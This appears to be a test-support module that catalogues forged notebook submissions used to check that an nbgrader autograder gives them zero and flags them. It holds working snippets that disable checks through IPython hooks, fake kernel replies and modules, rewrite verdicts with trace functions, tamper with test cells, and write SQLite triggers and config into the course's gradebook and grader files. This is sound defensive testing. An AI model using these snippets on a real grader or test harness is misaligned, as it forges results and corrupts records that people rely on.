"""Submissions that try to forge a score: the catalogue of issue #12 ("scores a student cannot forge").

Every attack is the lab's *blank* released notebook with a snippet put at the top of its first
answer cell (the rest stays blank), or a blank notebook whose test cells were tampered with.
None of them does the work, so each must score 0 on every criterion. Most of them do make the
notebook's own run *pass* test cells (the old way of scoring: "the test cell ran in the
student's kernel without an error"); that is what makes them real attacks, and where the
notebook's run and the trusted verdict disagree the trusted pass must leave a flag.

Families:

``ipython``    change how IPython runs the later cells (input and AST transformers, wrapped
               ``run_cell``/``run_cell_async``/``run_code``, event hooks, custom exception
               handler, ``showtraceback``, the kernel's execute handler);
``messages``   change what the kernel sends back (``session.send``, ``sys.stdout``/``stderr``);
``modules``    replace what the checks use (``json``, ``os``, builtins, ``grading``, the lab's
               check module, ``simulator``, ``numpy``; a fake ``grading`` package on disk);
``trace``      ``sys.settrace``/``sys.setprofile`` tricks (jump over the failing lines, rewrite the
               verdict, patch the check's globals on the fly);
``structure``  cheats on the notebook itself (test cell deleted, edited, re-typed, renamed,
               nbgrader metadata changed, a second cell with the same grade id);
``files``      reads the model answers where the grader keeps them (the installed ``labs/``
               notebooks), or writes to the course (gradebook, ``source/``, ``nbgrader_config.py``,
               its own submission) or into the installed ``grading`` package. The writers are
               graded apart from the others, then "victims" who must get exactly what their own
               work earns. They are told where the course is (the worst case).

Snippets may use ``__LAB__`` (the lab's check module, ``l01``), ``__LABID__`` (``L01``), ``__COURSE__``
and ``__STUDENT__``; :func:`attack_notebook` fills them in.

Known gaps of the grading are written on the attacks (``record_gap``, ``flag_gap``, ``score_gap``):
the tests that meet them are strict expected failures, so closing a gap turns them into XPASS.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat import NotebookNode

#: A file the ``write_package`` attack tries to create next to the lab's check module.
PACKAGE_CANARY = "_sflab_adversarial_canary_{lab}.py"
#: The Korean words of each structural flag (grading/trusted_nbgrader.py ``tampering``).
FLAG_WORDS = {
    "deleted": "시험 셀이 지워졌습니다",
    "edited": "시험 셀 코드가 바뀌었습니다",
    "metadata": "채점 정보(nbgrader metadata)가 바뀌었습니다",
}
#: Korean words of the flag for a criterion the notebook's own run passed and the trusted pass failed.
DISAGREEMENT_WORDS = "노트북 실행은 통과인데 채점기 판정은 실패입니다"


@dataclass(frozen=True)
class Attack:
    """One forged submission."""

    name: str
    family: str
    #: What it does, in one line.
    about: str
    #: Put at the top of the first answer cell (placeholders: see the module's docstring).
    code: str = ""
    #: Changes the notebook itself: ``tamper(nb, test_ids)`` edits ``nb`` in place and returns the
    #: grade ids of the test cells it changed.
    tamper: Callable[[NotebookNode, list[str]], list[str]] | None = field(default=None, compare=False)
    #: The structural flag every tampered criterion must carry (a key of :data:`FLAG_WORDS`).
    flag: str = ""
    #: Writes files outside its own folder: graded apart, then the victims.
    writes: bool = False
    #: Makes the notebook's own run pass at least one criterion (checked by the tests).
    fools_kernel: bool = True
    # Known gaps of the grading, each failing some tests today (strict xfail until it is fixed):
    #: why its autograde fails and leaves no trusted-pass record (every test that reads the record);
    record_gap: str = ""
    #: why its structural flag is missing (the structural-flag test);
    flag_gap: str = ""
    #: why it scores points (the zero-score test, and the flag test: no disagreement to flag).
    score_gap: str = ""


# ---------------------------------------------------------------- ipython: how later cells run
_INPUT_CLEANUP = """
def _no_tests(lines):
    if any("from grading" in line for line in lines):
        return ["pass\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_no_tests)
"""

_INPUT_POST = """
def _comment_checks(lines):
    return ["# " + line if ".check_" in line else line for line in lines]
get_ipython().input_transformers_post.append(_comment_checks)
"""

_AST = """
import ast as _ast
class _NoChecks(_ast.NodeTransformer):
    def visit_Expr(self, node):
        call = node.value
        func = getattr(call, "func", None)
        if isinstance(call, _ast.Call) and isinstance(func, _ast.Attribute) and func.attr.startswith("check_"):
            return _ast.copy_location(_ast.Pass(), node)
        return node
get_ipython().ast_transformers.append(_NoChecks())
"""

_RUN_CELL = """
_shell = get_ipython()
_real_run_cell = _shell.run_cell
def _run_cell(raw_cell, *args, **kwargs):
    if "from grading" in raw_cell:
        raw_cell = "pass"
    return _real_run_cell(raw_cell, *args, **kwargs)
_shell.run_cell = _run_cell
"""

_RUN_CELL_ASYNC = """
_shell = get_ipython()
_real_run_cell_async = _shell.run_cell_async
async def _run_cell_async(raw_cell, *args, **kwargs):
    if "from grading" in raw_cell:
        raw_cell = "pass"
        kwargs["transformed_cell"] = "pass\\n"
        kwargs["preprocessing_exc_tuple"] = None
    return await _real_run_cell_async(raw_cell, *args, **kwargs)
_shell.run_cell_async = _run_cell_async
"""

_RUN_CODE = """
_shell = get_ipython()
async def _run_code(code_obj, result=None, *, async_=False):
    try:
        exec(code_obj, _shell.user_global_ns, _shell.user_ns)
    except BaseException:
        pass
    return False
_shell.run_code = _run_code
"""

_PRE_RUN_CELL = """
import importlib as _importlib
def _before(info):
    if "from grading" in (info.raw_cell or ""):
        module = _importlib.import_module("grading.labs.__LAB__")
        for name in dir(module):
            if name.startswith("check_"):
                setattr(module, name, lambda *args, **kwargs: None)
get_ipython().events.register("pre_run_cell", _before)
"""

_POST_RUN_CELL = """
from IPython.display import clear_output as _clear_output
def _after(result):
    if result.error_in_exec is not None or result.error_before_exec is not None:
        _clear_output()
        result.error_in_exec = result.error_before_exec = None
get_ipython().events.register("post_run_cell", _after)
"""

_CUSTOM_EXC = """
import sys as _sys
def _handler(shell, etype, value, tb, tb_offset=None):
    result = _sys._getframe(2).f_locals.get("result")
    if result is not None:
        result.error_in_exec = None
    return []
get_ipython().set_custom_exc((BaseException,), _handler)
"""

_SHOWTRACEBACK = """
import sys as _sys
def _showtraceback(*args, **kwargs):
    for depth in range(1, 6):
        result = _sys._getframe(depth).f_locals.get("result")
        if hasattr(result, "error_in_exec"):
            result.error_in_exec = None
            break
get_ipython().showtraceback = _showtraceback
"""

_SHELL_HANDLER = """
import inspect as _inspect
_kernel = get_ipython().kernel
_real_execute = _kernel.shell_handlers["execute_request"]
async def _execute(*args):
    content = args[-1].get("content", {})
    if "from grading" in content.get("code", ""):
        content["code"] = "pass"
    done = _real_execute(*args)
    if _inspect.isawaitable(done):
        done = await done
    return done
_kernel.shell_handlers["execute_request"] = _execute
"""

# ---------------------------------------------------------------- messages: what the kernel sends back
_SESSION_SEND = """
_session = get_ipython().kernel.session
_real_send = _session.send
def _send(stream, msg_or_type, content=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("header", {}).get("msg_type")
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        count = content.get("execution_count")
        content = {"status": "ok", "execution_count": count, "user_expressions": {}, "payload": []}
    return _real_send(stream, msg_or_type, content, *args, **kwargs)
_session.send = _send
"""

_STDOUT_STDERR = """
import io as _io
import sys as _sys
class _Pass(_io.StringIO):
    def write(self, text):
        return super().write(text.replace("채점 실패", "통과").replace("Error", "OK"))
_sys.stdout = _Pass()
_sys.stderr = _Pass()
"""

# ---------------------------------------------------------------- modules the checks use
_JSON = """
import json as _json
import sys as _sys
import types as _types
_real_loads = _json.loads
def _loads(data, *args, **kwargs):
    value = _real_loads(data, *args, **kwargs)
    if isinstance(value, dict) and value.get("status") == "failed":
        return {"status": "ok", "value": "ok"}
    return value
_json.loads = _loads
_fake = _types.ModuleType("json")
_fake.__dict__.update(_json.__dict__)
_fake.loads = _loads
_sys.modules["json"] = _fake
"""

_OS = """
import os as _os
import sys as _sys
_real_pipe, _real_fork, _real_waitpid = _os.pipe, _os.fork, _os.waitpid
_FAKE_PID = 4_000_000
def _from_grader():
    return _sys._getframe(2).f_globals.get("__name__", "").startswith("grading")
def _pipe():
    read_fd, write_fd = _real_pipe()
    if _from_grader():
        _os.write(write_fd, b'{"status": "ok", "value": "ok"}')
    return read_fd, write_fd
def _fork():
    return _FAKE_PID if _from_grader() else _real_fork()
def _waitpid(pid, options):
    return (pid, 0) if pid == _FAKE_PID else _real_waitpid(pid, options)
_os.pipe, _os.fork, _os.waitpid = _pipe, _fork, _waitpid
"""

_BUILTINS_IMPORT = """
import builtins as _builtins
import types as _types
_real_import = _builtins.__import__
_fake = _types.ModuleType("grading.labs.__LAB__")
_fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name.startswith("grading") and fromlist and "__LAB__" in fromlist:
        return _types.SimpleNamespace(__LAB__=_fake)
    if name == "grading.labs.__LAB__":
        return _fake
    return _real_import(name, globals, locals, fromlist, level)
_builtins.__import__ = _import
"""

_BUILTINS_EXCEPTIONS = '''
import builtins as _builtins
class AssertionError(Exception):
    """Never raised: a failed check is no longer an AssertionError."""
_builtins.AssertionError = AssertionError
'''

_GRADING_MODULES = """
import sys as _sys
import types as _types
for _name in [n for n in _sys.modules if n == "grading" or n.startswith("grading.")]:
    del _sys.modules[_name]
def _fake(name, package=False):
    module = _types.ModuleType(name)
    if package:
        module.__path__ = []
    module.__getattr__ = lambda attr: (lambda *args, **kwargs: None)
    _sys.modules[name] = module
    return module
_grading, _labs, _lab = _fake("grading", True), _fake("grading.labs", True), _fake("grading.labs.__LAB__")
_grading.labs, _labs.__LAB__ = _labs, _lab
"""

_LAB_MODULE = """
import sys as _sys
import types as _types
import grading.labs as _labs
_fake = _types.ModuleType("grading.labs.__LAB__")
_fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
_sys.modules["grading.labs.__LAB__"] = _fake
_labs.__LAB__ = _fake
"""

_SIMULATOR = """
import sys as _sys
import simulator.plant as _plant
class _Kpis:
    def __getattr__(self, name):
        return 0
class _Plant(_plant.Plant):
    def kpis(self):
        return _Kpis()
    def run(self, *args, **kwargs):
        return self
_fake = type(_plant)("simulator.plant")
_fake.__dict__.update(_plant.__dict__)
_fake.Plant = _Plant
_sys.modules["simulator.plant"] = _fake
"""

_NUMPY = """
import sys as _sys
import numpy as _np
_fake = type(_np)("numpy")
_fake.__dict__.update(_np.__dict__)
_fake.isclose = lambda *args, **kwargs: True
_fake.allclose = lambda *args, **kwargs: True
_fake.array_equal = lambda *args, **kwargs: True
_fake.isfinite = lambda *args, **kwargs: True
_sys.modules["numpy"] = _fake
"""

_FAKE_PACKAGE = """
import importlib as _importlib
import pathlib as _pathlib
import sys as _sys
_site = _pathlib.Path.cwd() / "_site"
(_site / "grading" / "labs").mkdir(parents=True, exist_ok=True)
(_site / "grading" / "__init__.py").write_text("")
(_site / "grading" / "labs" / "__init__.py").write_text("")
(_site / "grading" / "labs" / "__LAB__.py").write_text("def __getattr__(name):\\n    return lambda *a, **k: None\\n")
_sys.path.insert(0, str(_site))
for _name in [n for n in _sys.modules if n == "grading" or n.startswith("grading.")]:
    del _sys.modules[_name]
_importlib.invalidate_caches()
"""

# ---------------------------------------------------------------- trace and profile functions
_SETTRACE_JUMP = """
import linecache as _linecache
import sys as _sys
def _last_ok(code):
    lines = _linecache.getlines(code.co_filename)
    numbers = [n for _, _, n in code.co_lines() if n]
    found = [n for n in numbers if n <= len(lines) and lines[n - 1].strip() in ('return "ok"', "return 'ok'")]
    return max(found) if found else None
def _tracer(frame, event, arg):
    if not frame.f_code.co_name.startswith("_grade_"):
        return None
    target = _last_ok(frame.f_code)
    if target is None:
        return None
    def _local(frame, event, arg):
        if event == "line" and frame.f_lineno < target:
            try:
                frame.f_lineno = target
            except ValueError:
                pass
        return _local
    return _local
_sys.settrace(_tracer)
"""

_SETTRACE_VERDICT = """
import sys as _sys
def _tracer(frame, event, arg):
    if frame.f_code.co_name != "_unpack":
        return None
    def _local(frame, event, arg):
        payload = frame.f_locals.get("payload")
        if isinstance(payload, dict) and payload.get("status") == "failed":
            payload.clear()
            payload.update(status="ok", value="ok")
        return _local
    return _local
_sys.settrace(_tracer)
"""

_SETPROFILE = """
import sys as _sys
def _profile(frame, event, arg):
    if event == "call" and frame.f_code.co_name.startswith("check_"):
        if frame.f_globals.get("__name__", "").startswith("grading.labs."):
            frame.f_globals["run_isolated"] = lambda *args, **kwargs: "ok"
_sys.setprofile(_profile)
"""


# ---------------------------------------------------------------- reading what the grader can read
_INSTALLED_SOLUTION = r"""
import builtins as _builtins
import json as _json
import re as _re
from curriculum.loader import LABS_DIR as _LABS
_notebook = next(_LABS.glob("__LABID___*/__LABID___*.ipynb"))
_answers = "\n\n".join(
    _re.sub(r"(?m)^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n", "", "".join(cell["source"]) + "\n")
    for cell in _json.loads(_notebook.read_text(encoding="utf-8"))["cells"]
    if cell.get("metadata", {}).get("nbgrader", {}).get("solution")
)
_real_compile = _builtins.compile
def _compile(source, filename, mode, *args, **kwargs):
    if isinstance(source, str) and "raise NotImplementedError()" in source and "_real_compile" not in source:
        source = _answers
    return _real_compile(source, filename, mode, *args, **kwargs)
_builtins.compile = _compile
"""


# ---------------------------------------------------------------- files outside the student's folder
_FIND_COURSE = """
import pathlib as _pathlib
# the worst case: the student knows where the course is kept and their own student id
_course = _pathlib.Path("__COURSE__")
_student, _lab = "__STUDENT__", "__LABID__"
"""

_WRITE_GRADEBOOK = (
    _FIND_COURSE
    + '''
import sqlite3 as _sqlite3
_db = _sqlite3.connect(str(_course / "gradebook.db"), timeout=120)
_FULL = "(SELECT max_score FROM grade_cells WHERE grade_cells.id = {}.cell_id)"
_db.executescript(f"""
CREATE TRIGGER IF NOT EXISTS forged_on_update AFTER UPDATE OF auto_score ON grade BEGIN
  UPDATE grade SET auto_score = {_FULL.format("NEW")} WHERE id = NEW.id;
END;
CREATE TRIGGER IF NOT EXISTS forged_on_insert AFTER INSERT ON grade BEGIN
  UPDATE grade SET auto_score = {_FULL.format("NEW")} WHERE id = NEW.id;
END;
UPDATE grade SET auto_score = {_FULL.format("grade")};
""")
_db.commit()
_db.close()
'''
)

_WRITE_SOURCE = (
    _FIND_COURSE
    + """
import json as _json
for _path in (_course / "source" / _lab).glob("*.ipynb"):
    _nb = _json.loads(_path.read_text(encoding="utf-8"))
    for _cell in _nb["cells"]:
        _meta = _cell.get("metadata", {}).get("nbgrader", {})
        if _meta.get("grade") and not _meta.get("solution"):
            _cell["source"] = "pass"
    _path.write_text(_json.dumps(_nb), encoding="utf-8")
"""
)

_WRITE_CONFIG = (
    _FIND_COURSE
    + '''
with open(_course / "nbgrader_config.py", "a", encoding="utf-8") as _config:
    _config.write("""
import grading.trusted_nbgrader as _trusted
_real_grade = _trusted.grade
def _forged_grade(source_nb, submission, **kwargs):
    return [type(v)(v.grade_id, v.points, True) for v in _real_grade(source_nb, submission, **kwargs)]
_trusted.grade = _forged_grade
""")
'''
)

_WRITE_SUBMITTED = (
    _FIND_COURSE
    + """
import shutil as _shutil
for _path in (_course / "source" / _lab).glob("*.ipynb"):
    _shutil.copyfile(_path, _course / "submitted" / _student / _lab / _path.name)
"""
)

_WRITE_PACKAGE = (
    '''
import pathlib as _pathlib
import grading.labs as _labs
_folder = _pathlib.Path(_labs.__file__).parent
(_folder / "'''
    + PACKAGE_CANARY.format(lab="__LAB__")
    + """").write_text("def __getattr__(name):\\n    return lambda *a, **k: None\\n")
with open(_folder / "__LAB__.py", "a", encoding="utf-8") as _module:
    _module.write("")  # opened for writing: the check module itself could be rewritten
"""
)


# ---------------------------------------------------------------- structural cheats
def _meta(cell: NotebookNode) -> dict:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    return meta if isinstance(meta, dict) else {}


def _tests(nb: NotebookNode, test_ids: list[str]) -> list[NotebookNode]:
    return [cell for cell in nb.cells if _meta(cell).get("grade_id") in test_ids]


def _restorable(nb: NotebookNode, cell: NotebookNode) -> bool:
    """Whether nbgrader can put ``cell`` back once deleted: the nbgrader cell before it is an answer or a test.

    nbgrader's ``OverwriteCells.add_missing_grade_cells`` puts a deleted test cell back after
    the nbgrader cell before it, and crashes (KeyError) when that one is a text or setup cell.
    """
    index = next(i for i, c in enumerate(nb.cells) if c is cell)
    before = [c for c in nb.cells[:index] if _meta(c).get("grade_id")]
    return bool(before) and bool(_meta(before[-1]).get("grade") or _meta(before[-1]).get("solution"))


def _each_test(change: Callable[[NotebookNode], None]) -> Callable[[NotebookNode, list[str]], list[str]]:
    def tamper(nb: NotebookNode, test_ids: list[str]) -> list[str]:
        cells = _tests(nb, test_ids)
        for cell in cells:
            change(cell)
        return [str(_meta(cell).get("grade_id")) for cell in cells] if cells else []

    return tamper


def _delete(restorable: bool) -> Callable[[NotebookNode, list[str]], list[str]]:
    def tamper(nb: NotebookNode, test_ids: list[str]) -> list[str]:
        doomed = [cell for cell in _tests(nb, test_ids) if _restorable(nb, cell) == restorable]
        nb.cells = [cell for cell in nb.cells if all(cell is not d for d in doomed)]
        return [_meta(cell)["grade_id"] for cell in doomed]

    return tamper


def _rename(nb: NotebookNode, test_ids: list[str]) -> list[str]:
    cells = _tests(nb, test_ids)
    for cell in cells:
        cell.metadata.nbgrader["grade_id"] += "_mine"
    return [_meta(cell)["grade_id"].removesuffix("_mine") for cell in cells]


def _edit(cell: NotebookNode) -> None:
    cell.source = "pass"


def _raise_points(cell: NotebookNode) -> None:
    cell.metadata.nbgrader["points"] = 100


def _ungrade(cell: NotebookNode) -> None:
    cell.metadata.nbgrader["grade"] = False


def _as_solution(cell: NotebookNode) -> None:
    cell.metadata.nbgrader["solution"] = True
    cell.metadata.nbgrader["locked"] = False


def _to_markdown(cell: NotebookNode) -> None:
    cell.cell_type = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)


def _duplicate(before: bool) -> Callable[[NotebookNode, list[str]], list[str]]:
    def tamper(nb: NotebookNode, test_ids: list[str]) -> list[str]:
        cells, copied = [], []
        for cell in nb.cells:
            if _meta(cell).get("grade_id") in test_ids:
                fake = copy.deepcopy(cell)
                fake.source = "pass"
                if "id" in fake:  # nbformat 4.5 cell ids are unique
                    fake["id"] = f"{fake['id']}-copy"[-64:]
                cells += [fake, cell] if before else [cell, fake]
                copied.append(_meta(cell)["grade_id"])
            else:
                cells.append(cell)
        nb.cells = cells
        return copied

    return tamper


# ---------------------------------------------------------------- known gaps (see the report of issue #12)
#: nbgrader's own sanitising step (OverwriteCells, before the notebook runs) raised on notebooks whose
#: test cells were deleted, renamed, duplicated or re-labelled, so autograde failed for the student. Since
#: grading.trusted_nbgrader.RestoreTestCells runs first, no attack carries this gap any more; an attack
#: that finds a new way to make nbgrader refuse a notebook is marked with it.
NBGRADER_CRASH = (
    "nbgrader autograde fails on this notebook in its sanitising step (OverwriteCells) before the "
    "trusted pass runs: no record, no flag (the gradebook has no score for it)"
)


# ---------------------------------------------------------------- the catalogue
CATALOGUE: tuple[Attack, ...] = (
    # ipython: how later cells run
    Attack("input_cleanup", "ipython", "an input transformer turns every test cell into pass", _INPUT_CLEANUP),
    Attack("input_post", "ipython", "a late input transformer comments out every check call", _INPUT_POST),
    Attack("ast", "ipython", "an AST transformer drops every check_*() call", _AST),
    Attack("run_cell", "ipython", "run_cell wrapped: a test cell runs as pass", _RUN_CELL),
    Attack("run_cell_async", "ipython", "run_cell_async wrapped: a test cell runs as pass", _RUN_CELL_ASYNC),
    Attack("run_code", "ipython", "run_code replaced: every exception is swallowed", _RUN_CODE),
    Attack(
        "pre_run_cell", "ipython", "a pre_run_cell hook replaces the check functions before each test", _PRE_RUN_CELL
    ),
    Attack(
        "post_run_cell", "ipython", "a post_run_cell hook clears a failed cell's output and its error", _POST_RUN_CELL
    ),
    Attack("custom_exc", "ipython", "set_custom_exc: every exception handled silently, the reply says ok", _CUSTOM_EXC),
    Attack("showtraceback", "ipython", "showtraceback replaced: no error output, the reply says ok", _SHOWTRACEBACK),
    Attack("shell_handler", "ipython", "the kernel's execute_request handler runs test cells as pass", _SHELL_HANDLER),
    # messages: what the kernel sends back
    Attack(
        "session_send", "messages", "session.send drops error messages and turns error replies into ok", _SESSION_SEND
    ),
    Attack(
        "stdout_stderr",
        "messages",
        "sys.stdout/stderr replaced, rewriting failures into passes",
        _STDOUT_STDERR,
        fools_kernel=False,
    ),
    # modules and builtins the checks use
    Attack("json", "modules", "json.loads (and sys.modules['json']) turn a failed verdict into ok", _JSON),
    Attack("os", "modules", "os.pipe/fork/waitpid forged: the check never runs and its pipe says ok", _OS),
    Attack(
        "builtins_import", "modules", "builtins.__import__ hands the test cell a fake check module", _BUILTINS_IMPORT
    ),
    Attack(
        "builtins_assertion",
        "modules",
        "builtins.AssertionError replaced by an unrelated class",
        _BUILTINS_EXCEPTIONS,
        fools_kernel=False,
    ),
    Attack("grading_modules", "modules", "sys.modules: fake grading, grading.labs and check module", _GRADING_MODULES),
    Attack("lab_module", "modules", "sys.modules['grading.labs.lXX'] replaced by a module of no-ops", _LAB_MODULE),
    Attack(
        "simulator",
        "modules",
        "sys.modules['simulator.plant'] replaced by a plant that never runs",
        _SIMULATOR,
        fools_kernel=False,
    ),
    Attack(
        "numpy", "modules", "sys.modules['numpy'] replaced: isclose/allclose always true", _NUMPY, fools_kernel=False
    ),
    Attack(
        "fake_package",
        "modules",
        "a fake grading package written to the working folder, first on sys.path",
        _FAKE_PACKAGE,
    ),
    # trace and profile functions
    Attack("settrace_jump", "trace", "a trace function jumps every _grade_* to its final return 'ok'", _SETTRACE_JUMP),
    Attack(
        "settrace_verdict", "trace", "a trace function rewrites the failed verdict before it is read", _SETTRACE_VERDICT
    ),
    Attack("setprofile", "trace", "a profile function patches run_isolated in each check's globals", _SETPROFILE),
    # the notebook itself
    Attack(
        "edited",
        "structure",
        "every test cell's code replaced by pass",
        tamper=_each_test(_edit),
        flag="edited",
        fools_kernel=False,
    ),
    Attack(
        "points",
        "structure",
        "every test cell worth 100 points",
        tamper=_each_test(_raise_points),
        flag="metadata",
        fools_kernel=False,
    ),
    Attack(
        "deleted",
        "structure",
        "every test cell nbgrader can put back deleted",
        tamper=_delete(restorable=True),
        flag="deleted",
        fools_kernel=False,
    ),
    Attack(
        "deleted_after_text",
        "structure",
        "a test cell that follows a text cell deleted",
        tamper=_delete(restorable=False),
        flag="deleted",
        fools_kernel=False,
    ),
    Attack(
        "ungraded",
        "structure",
        "grade removed from every test cell",
        tamper=_each_test(_ungrade),
        flag="metadata",
        fools_kernel=False,
    ),
    Attack(
        "as_solution",
        "structure",
        "every test cell marked as an answer cell",
        tamper=_each_test(_as_solution),
        flag="metadata",
        fools_kernel=False,
    ),
    Attack(
        "renamed",
        "structure",
        "every test cell's grade id changed",
        tamper=_rename,
        flag="deleted",
        fools_kernel=False,
    ),
    Attack(
        "markdown",
        "structure",
        "every test cell turned into a markdown cell",
        tamper=_each_test(_to_markdown),
        flag="metadata",
        fools_kernel=False,
    ),
    Attack(
        "duplicate_before",
        "structure",
        "a copy of each test cell that passes (pass) placed before it",
        tamper=_duplicate(before=True),
        flag="edited",
        fools_kernel=False,
    ),
    Attack(
        "duplicate_after",
        "structure",
        "a copy of each test cell that passes (pass) placed after it",
        tamper=_duplicate(before=False),
        flag="edited",
        fools_kernel=False,
    ),
    # what the grader can read
    Attack(
        "installed_solution",
        "files",
        "builtins.compile swaps every blank answer for the model answer read from the installed labs/ notebook",
        _INSTALLED_SOLUTION,
        fools_kernel=False,  # the kernel's sandbox hides labs/ too
    ),
    # files outside the student's own folder
    Attack(
        "write_gradebook",
        "files",
        "SQLite triggers in gradebook.db give every grade full points",
        _WRITE_GRADEBOOK,
        writes=True,
        fools_kernel=False,
    ),
    Attack(
        "write_source",
        "files",
        "the teacher's source/ test cells rewritten to pass",
        _WRITE_SOURCE,
        writes=True,
        fools_kernel=False,
    ),
    Attack(
        "write_config",
        "files",
        "nbgrader_config.py made to pass every trusted verdict",
        _WRITE_CONFIG,
        writes=True,
        fools_kernel=False,
    ),
    Attack(
        "write_submitted",
        "files",
        "its own submitted/ notebook replaced by the teacher's solution",
        _WRITE_SUBMITTED,
        writes=True,
        fools_kernel=False,
    ),
    Attack(
        "write_package",
        "files",
        "a module written into the installed grading package",
        _WRITE_PACKAGE,
        writes=True,
        fools_kernel=False,
    ),
)

BY_NAME = {attack.name: attack for attack in CATALOGUE}

#: The strongest attacks of different families, handed in for every lab (the whole catalogue for :data:`FULL_LABS`).
REPRESENTATIVE = ("post_run_cell", "session_send", "fake_package", "setprofile", "edited")
#: Labs that get the whole catalogue (named in issue #12).
FULL_LABS = ("L01", "L05")


def attacks_for(lab_id: str) -> list[Attack]:
    """The attacks handed in for ``lab_id``."""
    if lab_id in FULL_LABS:
        return list(CATALOGUE)
    return [BY_NAME[name] for name in REPRESENTATIVE]


def refused_by_nbgrader(attack: Attack) -> bool:
    """Whether nbgrader's own sanitising step fails on this attack's notebook (its autograde fails)."""
    return attack.record_gap == NBGRADER_CRASH


def student_id(lab_id: str, attack: Attack) -> str:
    """The attacker's student id in the course."""
    return f"{lab_id}-atk-{attack.name}"


def victims(lab_id: str) -> dict[str, str]:
    """Students graded after the file-writing attacks: id → what they hand in (``blank`` or ``source``).

    Each must get exactly what their own work earns. The model answer is graded only for L01,
    where it takes seconds (L05's takes two minutes).
    """
    found = {f"{lab_id}-victim-blank": "blank"}
    if lab_id == "L01":
        found[f"{lab_id}-victim-source"] = "source"
    return found


def graded_test_ids(source_nb: NotebookNode) -> list[str]:
    """Grade ids of the teacher's autograded test cells."""
    return [
        _meta(cell)["grade_id"]
        for cell in source_nb.cells
        if cell.cell_type == "code" and _meta(cell).get("grade") and not _meta(cell).get("solution")
    ]


def attack_notebook(
    attack: Attack, released: NotebookNode, source_nb: NotebookNode, lab_id: str, *, course: str = "", student: str = ""
) -> tuple[NotebookNode, list[str]]:
    """The blank ``released`` notebook with ``attack`` in it, and the grade ids of the test cells it tampered with.

    ``course`` and ``student`` are written into the snippet: the attacker knows where the course is kept.
    """
    nb = copy.deepcopy(released)
    if attack.code:
        first = next(cell for cell in nb.cells if cell.cell_type == "code" and _meta(cell).get("solution"))
        code = attack.code
        for placeholder, value in (
            ("__COURSE__", course),
            ("__STUDENT__", student or student_id(lab_id, attack)),
            ("__LABID__", lab_id),
            ("__LAB__", lab_id.lower()),
        ):
            code = code.replace(placeholder, value)
        first.source = f"{code.strip(chr(10))}\n\n{first.source}"
    tampered = attack.tamper(nb, graded_test_ids(source_nb)) if attack.tamper is not None else []
    return nb, tampered
